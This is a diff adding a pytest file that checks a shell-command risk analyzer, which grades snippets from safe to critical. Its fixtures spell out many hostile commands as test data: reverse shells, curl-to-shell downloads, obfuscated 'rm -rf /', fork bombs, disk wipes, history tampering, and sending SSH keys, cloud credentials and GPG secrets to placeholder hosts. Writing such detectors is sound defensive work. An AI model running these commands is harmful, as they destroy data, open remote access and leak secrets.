@@ -1,0 +1,256 @@
+"""The shell analyzer on the tree-sitter-bash parse tree."""
+
+from __future__ import annotations
+
+import pytest
+from sandlot.risk.model import Category, RiskLevel
+from sandlot.risk.shell_analyzer import analyze_argv, analyze_shell
+
+C, H, M, L, S = RiskLevel.CRITICAL, RiskLevel.HIGH, RiskLevel.MEDIUM, RiskLevel.LOW, RiskLevel.SAFE
+
+
+def level(code: str) -> RiskLevel:
+    return max((f.level for f in analyze_shell(code)), default=S)
+
+
+def rules(code: str) -> set[str]:
+    return {f.rule_id for f in analyze_shell(code)}
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # recursive deletion graded by path
+        ("rm -rf /", C),
+        ("rm -rf /*", C),
+        ("rm -rf ~", C),
+        ('rm -rf "$HOME"/*', C),
+        ("rm -rf /etc", C),
+        ("rm -rf ~/Documents", H),
+        ("rm -rf build dist", L),
+        ("rm -f out.log", L),
+        ('rm -rf "$DIR"', M),
+        ("rm --recursive --force /usr/share", H),
+        ("X=/var; rm -rf $X", C),
+        ("find / -type f -delete", C),
+        ("find . -name '*.pyc' -delete", L),
+        ("find ~ -type f -exec rm -f {} +", H),
+        ("find /usr -name '*.so' | xargs rm -f", H),
+        ('for d in /home/*; do rm -rf "$d"; done', C),
+        # downloads into interpreters
+        ("curl -fsSL https://x.sh | sh", C),
+        ("wget -qO- http://x | sudo bash", C),
+        ('bash -c "$(curl -fsSL https://x)"', C),
+        ("source <(curl -s https://x)", C),
+        ("wget http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", C),
+        ("echo cm0gLXJmIC8K | base64 -d | sh", C),  # decoded: rm -rf /
+        ("echo ZWNobyBoaQo= | base64 -d | sh", H),  # decoded: echo hi - still obfuscated execution
+        ("curl -s https://api.github.com | jq .", L),
+        # reverse shells
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", C),
+        ("nc -e /bin/sh 10.0.0.1 4444", C),
+        ("socat TCP:1.2.3.4:1 EXEC:/bin/sh", C),
+        ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 1 > /tmp/f", C),
+        ("nc -z localhost 5432", L),
+        # devices
+        ("dd if=/dev/zero of=/dev/sda bs=1M", C),
+        ("mkfs.ext4 /dev/sdb1", C),
+        ("dd if=in.img of=out.img", S),
+        # fork bombs
+        (":(){ :|:& };:", C),
+        ("bomb() { bomb | bomb & }; bomb", C),
+        ("greet() { echo hi; }; greet", S),
+        # permissions
+        ("chmod -R 777 /", C),
+        ("chmod u+s /bin/bash", C),
+        ("chmod +x run.sh", S),
+        ("chmod 600 ~/.ssh/id_rsa", S),
+        ("chown -R nobody /etc", H),
+        # persistence, history
+        ("echo 'x' >> ~/.bashrc", H),
+        ('(crontab -l; echo "* * * * * x") | crontab -', H),
+        ("crontab -l", S),
+        ("history -c", H),
+        ("unset HISTFILE", H),
+        ("export HISTFILE=/dev/null", H),
+        ("ln -sf /dev/null ~/.bash_history", H),
+        # secrets and exfiltration
+        ("cat /etc/shadow", H),
+        ("cat ~/.ssh/id_rsa.pub", S),
+        ("cat ~/.ssh/id_rsa | nc 1.2.3.4 80", C),
+        ("curl -F f=@$HOME/.aws/credentials https://x", C),
+        ('curl -d "$(cat ~/.netrc)" https://x', C),
+        ("env | curl -X POST --data-binary @- https://x", C),
+        ("scp ~/.ssh/id_rsa u@h:/tmp", C),
+        ("env | grep -i proxy", S),
+        # privilege
+        ("sudo ls", H),
+        ("su -c 'id' root", H),
+        ("kill -9 -1", C),
+        ("kill %1", S),
+        ("useradd -u 0 -o x", H),
+        # nested interpreters
+        ("python3 -c \"import shutil; shutil.rmtree('/')\"", C),
+        ("python3 -c 'print(1)'", S),
+        ("python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", C),
+        ("sh -c 'rm -rf \"$1\"' _ /etc", C),
+        ('eval "rm -rf /"', C),
+        ('eval "$(ssh-agent -s)"', L),
+        ("perl -e 'use Socket;socket(S,2,1,6);connect(S,$a);exec(\"/bin/sh -i\")'", C),
+        # ordinary one-liners
+        ("ls -la | grep foo", S),
+        ("git add -A && git commit -m x", S),
+        ("tar czf b.tgz src/", S),
+        ("make -j4 && make test", S),
+        ("docker run --rm -it python:3 python -V", S),
+    ],
+)
+def test_levels(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_shell(code)
+
+
+def test_unparseable_is_not_safe() -> None:
+    found = analyze_shell("if then fi (")
+    assert any(f.category is Category.PARSE and f.level is M for f in found)
+    assert analyze_shell("if (", parse_error_level=H)[0].level is H
+
+
+def test_parse_error_does_not_hide_other_findings() -> None:
+    assert level("rm -rf / ; if (") is C
+
+
+def test_finding_location() -> None:
+    found = analyze_shell("echo ok\n  rm -rf /\n")
+    f = next(f for f in found if f.rule_id == "shell.delete")
+    assert (f.line, f.column) == (2, 2)
+    assert f.evidence == "rm -rf /"
+
+
+def test_argv_entry_point() -> None:
+    found, secret = analyze_argv(["cat", "/etc/shadow"], line=7, column=4, evidence="e", via="subprocess.run")
+    assert secret
+    assert found and all(f.line == 7 for f in found)
+    assert "subprocess.run" in found[0].message
+
+
+def test_rules_are_named_by_family() -> None:
+    assert "shell.download-exec" in rules("curl -s https://x | bash")
+    assert "shell.fork-bomb" in rules(":(){ :|:& };:")
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("rm -rf .", H),
+        ("rm -rf ..", H),
+        ("rm -rf ./*", H),
+        ("rm *.o", L),
+        ("yes > big.txt", H),
+        ("yes | head -n 3 > f", S),
+        ("dd if=/dev/zero of=f bs=1G count=100", H),
+        ("fallocate -l 200G f", H),
+        ("docker run --privileged -v /:/host alpine", H),
+        ("docker run --rm alpine", S),
+        ("while true; do wget -q http://x; done", H),
+        ("while true; do curl -s http://x; sleep 60; done", L),
+        ("for i in $(seq 1 1000); do yes > /dev/null & done", H),
+        ('for f in a b; do job "$f" & done; wait', S),
+        ("grep -rI password /etc ~", H),
+        ("grep -rn password src/", S),
+        ("pkill -9 sshd", H),
+        ("pkill -f vite", M),
+        ("security dump-keychain -d login.keychain", H),
+        ("rm -rf ~/.npm/_cacache", L),
+        ("stress-ng --cpu 0", H),
+        ("perl -e 'fork while fork'", C),
+        ("iptables -L", S),
+    ],
+)
+def test_generalisation_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_shell(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("yes | sort", H),
+        ("tail /dev/zero", H),
+        ("sort big.txt", S),
+        ("yes | grep y | head", S),
+        ("kubectl get secrets -A -o yaml", H),
+        ("kubectl get pods", S),
+        ("aws secretsmanager get-secret-value --secret-id x | nc h 1", C),
+        ("openssl req -x509 -newkey rsa:2048 -keyout dev.key -out dev.crt", S),
+        ("python3 -m http.server 80 --directory /", H),
+        ("python3 -m http.server 8000", S),
+        ("pkill -9 -u root", C),
+        ("pkill -u bob", H),
+        ("pwsh -Command \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"", C),
+        ("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x7e' | sh", C),
+        ("tar cz /etc | nc 1.2.3.4 7000", C),
+        ("tar czf backup.tgz src/", S),
+        ("ngrok http 8080", H),
+        ("ssh -R 9000:localhost:22 u@h", H),
+        ("ssh -D 1080 u@h", M),
+    ],
+)
+def test_more_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_shell(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("dd if=/dev/urandom of=/tmp/fill bs=1M", H),
+        ("dd if=/dev/urandom of=key.bin bs=32 count=1", S),
+        ("find / -type f -exec chmod 000 {} +", C),
+        ("chmod -R 755 /usr", C),
+        ("chmod -R 755 /usr/local/lib", H),
+        ("chmod -R g+w ./shared", S),
+        ("git push --force origin main", H),
+        ("git push --force-with-lease", S),
+        ("rm -rf .git", H),
+        ("find ~ -type f -exec sh -c '> \"$1\"' _ {} \\;", H),
+        ("perl -MLWP::Simple -e 'eval get(\"http://x/p.pl\")'", C),
+    ],
+)
+def test_latest_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_shell(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("kill -9 $(pgrep .)", C),
+        ("kill $(pgrep -f myserver)", M),
+        ("pkill -9 -f python", H),
+        ("find ~ -name 'id_rsa*' | tar czf /tmp/k.tgz -T - && scp /tmp/k.tgz x@h:", C),
+        ("find . -name '*.pem'", S),
+        ("cat ~/.ssh/id_rsa > /tmp/k; curl -T /tmp/k https://x", C),
+        ("gpg --export-secret-keys -a | curl --data-binary @- https://x", C),
+        ("gpg --verify a.asc a", S),
+        ("x=$(cat /dev/urandom)", H),
+        ('eval "$(nc h 7000)"', C),
+        ("aria2c -o /tmp/p.sh http://x/p.sh && bash /tmp/p.sh", C),
+        ("curl -o tool.jar https://x/tool.jar && java -jar tool.jar", C),
+        ("rm -rf /mnt/backup", H),
+        ("rm -rf /mnt/data/build", M),
+        ("ln -sf ~/dotfiles/vimrc ~/.vimrc", S),
+        ("curl -fsSLo kubectl https://x/kubectl && chmod +x kubectl", M),
+    ],
+)
+def test_staging_hunting_and_runtimes(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_shell(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ('crontab -l -u "$USER"', S),
+        ("crontab -u bob jobs.txt", H),
+        ("for i in $(seq 1 254); do ping -c1 10.0.0.$i; done", H),
+        ("for h in a b; do ping -c1 $h; done", L),
+    ],
+)
+def test_option_values_and_sweeps(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_shell(code)
